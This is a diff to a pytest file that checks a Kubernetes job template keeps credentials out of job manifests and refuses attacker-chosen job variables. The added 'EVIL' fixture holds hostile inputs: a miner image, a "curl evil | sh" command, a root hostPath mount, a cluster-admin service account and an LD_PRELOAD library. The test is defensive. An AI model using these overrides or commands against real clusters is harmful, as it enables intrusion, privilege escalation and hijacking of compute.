@@ -1,6 +1,7 @@
 """Kubernetes workspace pools: the base job template rendered by prefect-kubernetes' own job-configuration
-code and validated against the Kubernetes API models of the `kubernetes` client. No cluster runs here,
-so nothing is applied to one: these tests check what a Kubernetes worker would submit."""
+code and validated against the Kubernetes API models of the `kubernetes` client. No Kubernetes API server can
+run on these machines, so nothing is applied to a cluster: these tests check what a Kubernetes worker would
+submit, and a real worker submits its Job to the fake API of tests/fakekube.py."""
 
 from __future__ import annotations
 
@@ -34,19 +35,20 @@ RENDER = textwrap.dedent("""
     import asyncio, json, sys, uuid
     from prefect.client.schemas.objects import FlowRun
     from prefect_kubernetes.worker import KubernetesWorkerJobConfiguration
-    from weightkeeper.kube import base_job_template
 
-    values = json.loads(sys.argv[1])
-    config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(base_job_template(), values))
+    template, values = json.loads(sys.argv[1]), json.loads(sys.argv[2])
+    config = asyncio.run(KubernetesWorkerJobConfiguration.from_template_and_values(template, values))
     run = FlowRun(id=uuid.UUID(int=7), flow_id=uuid.uuid4(), name="download-m-team-a")
     config.prepare_for_flow_run(flow_run=run)
     print(json.dumps(config.job_manifest))
 """)
 
 
-def render(variables: dict, env: dict | None = None) -> dict:
-    """The Job manifest a Kubernetes worker started with `env` would create for a run with `variables`."""
-    proc = subprocess.run([sys.executable, "-c", RENDER, json.dumps(variables)], capture_output=True, text=True,
+def render(target: KubernetesTarget, variables: dict, env: dict | None = None) -> dict:
+    """The Job manifest a Kubernetes worker started with `env` would create for a run with `variables` in the
+    pool of a workspace with `target` mounted at /mnt/models."""
+    proc = subprocess.run([sys.executable, "-c", RENDER, json.dumps(base_job_template(target, "/mnt/models")),
+                           json.dumps(variables)], capture_output=True, text=True,
                           env=env if env is not None else dict(os.environ), timeout=120)
     assert proc.returncode == 0, proc.stderr
     return json.loads(proc.stdout.strip().splitlines()[-1])
@@ -61,14 +63,14 @@ def validated(manifest: dict, kind: str):
     return model
 
 
-WORKER_ENV = {"PATH": os.environ["PATH"], "HOME": "/home/worker", "PREFECT_API_URL": "http://prefect.svc:4200/api"}
+WORKER_ENV = {"PATH": os.environ["PATH"], "HOME": "/home/worker", "PREFECT_API_URL": "http://prefect.svc:4200/api",
+              "PREFECT_API_AUTH_STRING": "weightkeeper:workerAUTH123"}
 
 
 @pytest.mark.parametrize(("target", "needs_token"), [(PVC, True), (HOST, False)])
 def test_rendered_job_runs_as_the_owner_with_the_workspace_volume(target, needs_token):
-    variables = job_variables(target, "/mnt/models", model="m", owner_name="alice", owner_uid=1234,
-                              needs_token=needs_token)
-    manifest = render(variables, WORKER_ENV)
+    variables = job_variables(target, model="m", owner_name="alice", owner_uid=1234, needs_token=needs_token)
+    manifest = render(target, variables, WORKER_ENV)
     job = validated(manifest, "V1Job")
     assert job.metadata.namespace == target.namespace
     pod = job.spec.template.spec
@@ -86,27 +88,35 @@ def test_rendered_job_runs_as_the_owner_with_the_workspace_volume(target, needs_
     else:
         assert volumes["workspace-volume"].host_path.path == "/data/models-b"
     assert volumes["weightkeeper-config"].config_map.name == "weightkeeper-config"
-    env = {e.name: e.value for e in container.env}
-    assert env["WEIGHTKEEPER_CONFIG"] == "/etc/weightkeeper/config.toml"
-    assert env["PREFECT__FLOW_RUN_ID"] == "00000000-0000-0000-0000-000000000007"  # the run's label and env
+    env = {e.name: e for e in container.env}
+    assert env["WEIGHTKEEPER_CONFIG"].value == "/etc/weightkeeper/config.toml"
+    assert env["PREFECT__FLOW_RUN_ID"].value == "00000000-0000-0000-0000-000000000007"  # the run's label and env
     assert job.metadata.labels["prefect.io/flow-run-id"] == "00000000-0000-0000-0000-000000000007"
     assert job.metadata.labels["weightkeeper.io/owner-uid"] == "1234"
+    assert [e.name for e in container.env].count("PREFECT_API_AUTH_STRING") == 1  # the worker's own copy is gone
+    auth = env["PREFECT_API_AUTH_STRING"]
+    assert auth.value is None and (auth.value_from.secret_key_ref.name, auth.value_from.secret_key_ref.key) == \
+        ("weightkeeper-prefect-auth", "PREFECT_API_AUTH_STRING")
+    assert "workerAUTH123" not in json.dumps(manifest)
     if needs_token:  # the token comes from the Secret in the namespace, never from the manifest
         assert [s.secret_ref.name for s in container.env_from] == ["hf-token"]
-        assert env["WEIGHTKEEPER_TOKEN_ENV"] == "HF_TOKEN" and "HF_TOKEN" not in env
+        assert env["WEIGHTKEEPER_TOKEN_ENV"].value == "HF_TOKEN" and "HF_TOKEN" not in env
     else:
-        assert not container.env_from and "WEIGHTKEEPER_TOKEN_ENV" not in env
+        assert not container.env_from
 
 
 def test_jobs_get_no_prefect_setting_or_token_of_the_process_that_starts_the_worker():
     secrets = {"PREFECT_API_KEY": "pnu_submitterKEY123", "HF_TOKEN": "hf_submitterTOKEN123",
                "PREFECT_SERVER_DATABASE_CONNECTION_URL": "postgresql+asyncpg://prefect:dbPASSWORD123@db/prefect",
-               "PREFECT_LOGGING_LEVEL": "DEBUG"}
+               "PREFECT_LOGGING_LEVEL": "DEBUG", "PREFECT_API_AUTH_STRING": "weightkeeper:submitterAUTH123"}
     submitter = {**os.environ, **WORKER_ENV, **secrets}
-    variables = job_variables(PVC, "/mnt/models", model="m", owner_name="alice", owner_uid=1234, needs_token=True)
-    leaked = json.dumps(render(variables, submitter))
+    variables = job_variables(PVC, model="m", owner_name="alice", owner_uid=1234, needs_token=True)
+    leaked = json.dumps(render(PVC, variables, submitter))
     assert "pnu_submitterKEY123" in leaked and "dbPASSWORD123" in leaked  # what a worker does with its settings
-    manifest = json.dumps(render(variables, worker_environment(submitter)))
+    assert "submitterAUTH123" not in leaked  # but the Prefect credential never: the template drops it
+    worker = worker_environment(submitter)
+    assert worker["PREFECT_API_AUTH_STRING"] == "weightkeeper:submitterAUTH123"  # the worker itself needs it
+    manifest = json.dumps(render(PVC, variables, worker))
     for value in secrets.values():
         assert value not in manifest
     assert "http://prefect.svc:4200/api" in manifest  # the one setting a job needs
@@ -114,9 +124,9 @@ def test_jobs_get_no_prefect_setting_or_token_of_the_process_that_starts_the_wor
 
 def test_job_variables_refuse_root_and_a_token_without_a_secret():
     with pytest.raises(InvalidInputError, match="never run as root"):
-        job_variables(PVC, "/mnt/models", model="m", owner_name="root", owner_uid=0, needs_token=False)
+        job_variables(PVC, model="m", owner_name="root", owner_uid=0, needs_token=False)
     with pytest.raises(InvalidInputError, match="token_secret"):
-        job_variables(HOST, "/mnt/models", model="m", owner_name="alice", owner_uid=1000, needs_token=True)
+        job_variables(HOST, model="m", owner_name="alice", owner_uid=1000, needs_token=True)
 
 
 def test_worker_manifests_validate_and_rbac_is_limited_to_jobs_and_pods_in_the_namespace():
@@ -130,7 +140,9 @@ def test_worker_manifests_validate_and_rbac_is_limited_to_jobs_and_pods_in_the_n
     (deployment,) = [m for m in models if m.kind == "Deployment"]
     (container,) = deployment.spec.template.spec.containers
     assert container.args == ["prefect", "worker", "start", "--pool", "gpu-east-a", "--type", "kubernetes"]
-    assert [e.name for e in container.env] == ["PREFECT_API_URL"]
+    api_url, auth = container.env
+    assert api_url.name == "PREFECT_API_URL" and auth.name == "PREFECT_API_AUTH_STRING" and auth.value is None
+    assert auth.value_from.secret_key_ref.name == "weightkeeper-prefect-auth"  # the credential from its Secret
     assert not any(m.kind == "ClusterRole" for m in models)
 
 
@@ -198,8 +210,26 @@ def test_kubernetes_workspaces_get_a_kubernetes_pool_from_the_template(tmp_path)
     assert ensure_work_pools(settings) == []  # idempotent
     with get_client(sync_client=True) as client:
         east, control = client.read_work_pool("kube-test-east"), client.read_work_pool("kube-test-control")
-    assert east.type == "kubernetes" and east.base_job_template == base_job_template()
+    target = settings.workspace("gpu").kubernetes
+    assert east.type == "kubernetes" and east.base_job_template == base_job_template(target, "/mnt/gpu")
     assert control.type == "process"
+    config.write_text(config.read_text().replace("weightkeeper:0.1", "weightkeeper:0.2"))
+    assert ensure_work_pools(load_settings(config)) == []  # an existing pool gets the new template
+    with get_client(sync_client=True) as client:
+        manifest = client.read_work_pool("kube-test-east").base_job_template["job_configuration"]["job_manifest"]
+    assert manifest["spec"]["template"]["spec"]["containers"][0]["image"] == "registry.local/weightkeeper:0.2"
+
+
+def test_workspaces_sharing_a_kubernetes_pool_must_agree_on_what_its_template_fixes(tmp_path):
+    from weightkeeper.deployments import ensure_work_pools
+
+    config = tmp_path / "config.toml"
+    workspace = ('[[workspaces]]\nname = "{0}"\ncluster = "east"\nvolume = "/mnt/{0}"\nwork_pool = "kube-shared"\n'
+                 '[workspaces.kubernetes]\nnamespace = "team-a"\nimage = "img:1"\nvolume_claim = "{0}"\n')
+    config.write_text(workspace.format("one") + workspace.format("two"))
+    with pytest.raises(ConfigError, match="Kubernetes pool 'kube-shared' serves workspaces \\['one', 'two'\\] whose "
+                                          "volume or \\[workspaces.kubernetes\\] differ"):
+        ensure_work_pools(load_settings(config))
 
 
 def test_a_workspace_job_reads_the_token_from_the_mounted_secret(monkeypatch):
@@ -341,13 +371,82 @@ def test_a_kubernetes_workspace_run_carries_the_owner_the_volume_and_the_token_s
 
     (run,) = wait_until(created, what="the download run")
     variables = run.job_variables
-    assert (variables["run_as_user"], variables["run_as_group"], variables["namespace"]) == (4242, 4242, "team-a")
-    assert variables["volume"] == {"name": "workspace-volume", "persistentVolumeClaim": {"claimName": "models-a"}}
-    assert variables["volume_mount_path"] == str(wk.volumes["team-a"])
-    assert variables["env_from"] == [{"secretRef": {"name": "hf-token"}}]
+    assert (variables["run_as_user"], variables["run_as_group"]) == (4242, 4242)
+    assert set(variables) == {"run_as_user", "run_as_group", "labels"}  # the rest is the pool's template
     assert "hf-token-block" not in str(variables)  # the Prefect block's name, let alone the token, is not passed
+    with get_client(sync_client=True) as client:
+        pod = client.read_work_pool("kube-runs-gpu").base_job_template["job_configuration"]["job_manifest"]["spec"][
+            "template"]["spec"]
+    assert pod["volumes"][0] == {"name": "workspace-volume", "persistentVolumeClaim": {"claimName": "models-a"}}
+    assert pod["containers"][0]["volumeMounts"][0]["mountPath"] == str(wk.volumes["team-a"])
+    assert pod["containers"][0]["envFrom"] == [{"secretRef": {"name": "hf-token"}}]
     with get_client(sync_client=True) as client:
         client.set_flow_run_state(run.id, Cancelled(), force=True)
     jobs.join(30)
     (failure,) = jobs.result["value"]
     assert not failure.crashed and "Cancelled" in failure.message  # cancelled, not crashed: no failover
+
+
+EVIL = {"image": "evil/miner:latest", "command": "sh -c 'curl evil | sh'", "namespace": "kube-system",
+        "service_account_name": "cluster-admin", "volume": {"name": "workspace-volume", "hostPath": {"path": "/"}},
+        "volume_mount_path": "/usr/lib", "env": {"PREFECT_API_URL": "http://evil/api", "LD_PRELOAD": "/evil.so"},
+        "env_from": [{"secretRef": {"name": "other-team-secret"}}],
+        "cluster_config": {"config": {}, "context_name": "x"}}
+
+
+def test_a_run_cannot_override_the_image_command_volumes_or_namespace_of_its_job(tmp_path):
+    """The attacker holds the Prefect credential and creates runs in a Kubernetes pool with job variables of
+    their choice. The server refuses them for a deployment; a run created without that check (POST /flow_runs/)
+    reaches a real Kubernetes worker, whose Job, sent to the fake Kubernetes API, is the template's."""
+    import httpx
+
+    from fakekube import FakeKubernetes
+    from weightkeeper.deployments import declared, ensure_work_pools
+
+    config = tmp_path / "config.toml"
+    config.write_text('[[workspaces]]\nname = "gpu"\ncluster = "east"\nvolume = "/mnt/gpu"\nwork_pool = "kube-fixed"\n'
+                      '[workspaces.kubernetes]\nnamespace = "team-a"\nimage = "registry.local/weightkeeper:0.1"\n'
+                      'volume_claim = "models-a"\n')
+    settings = load_settings(config)
+    ensure_work_pools(settings)
+    for deployment, pool in declared(settings):
+        if pool == "kube-fixed" and deployment.flow_name == "download-to-path":
+            deployment_id = deployment.apply(work_pool_name=pool)
+    api = httpx.Client(base_url=os.environ["PREFECT_API_URL"], timeout=30)
+    owner, parameters = {"run_as_user": 4242, "run_as_group": 4242}, {"name": "m", "path_id": 1}
+    for key, value in EVIL.items():
+        refused = api.post(f"/deployments/{deployment_id}/create_flow_run",
+                           json={"parameters": parameters, "job_variables": {**owner, key: value}})
+        assert refused.status_code == 422 and key in refused.text, (key, refused.text)
+    flow_id = api.get(f"/deployments/{deployment_id}").json()["flow_id"]
+    run = api.post("/flow_runs/", json={
+        "flow_id": flow_id, "deployment_id": str(deployment_id), "work_pool_name": "kube-fixed",
+        "name": "attacker-run",
+        "job_variables": {**owner, **EVIL}, "parameters": parameters,
+        "state": {"type": "SCHEDULED", "state_details": {"scheduled_time": "2000-01-01T00:00:00Z"}}})
+    assert run.status_code == 201, run.text
+    cluster = FakeKubernetes()
+    try:
+        worker = subprocess.run(
+            [sys.executable, "-m", "prefect", "worker", "start", "--pool", "kube-fixed", "--type", "kubernetes",
+             "--run-once"], capture_output=True, text=True, timeout=180,
+            env=dict(os.environ, KUBECONFIG=str(cluster.kubeconfig(tmp_path / "kubeconfig")),
+                     PREFECT_INTEGRATIONS_KUBERNETES_OBSERVER_ENABLED="false"))
+        assert len(cluster.jobs) == 1, worker.stdout + worker.stderr
+    finally:
+        cluster.stop()
+        api.delete(f"/flow_runs/{run.json()['id']}")
+    namespace, job = cluster.jobs[0]
+    pod = job["spec"]["template"]["spec"]
+    (container,) = pod["containers"]
+    assert namespace == job["metadata"]["namespace"] == "team-a"
+    assert container["image"] == "registry.local/weightkeeper:0.1"
+    assert container["args"] == ["prefect", "flow-run", "execute"]
+    assert pod["serviceAccountName"] == "weightkeeper-jobs"
+    assert pod["volumes"][0] == {"name": "workspace-volume", "persistentVolumeClaim": {"claimName": "models-a"}}
+    assert container["volumeMounts"][0]["mountPath"] == "/mnt/gpu"
+    assert container["envFrom"] == []
+    env = {e["name"]: e.get("value") for e in container["env"]}
+    assert env["PREFECT_API_URL"] == os.environ["PREFECT_API_URL"] and "LD_PRELOAD" not in env
+    assert pod["securityContext"]["runAsUser"] == 4242  # what a run does set: its owner
+    assert "evil" not in json.dumps(job)
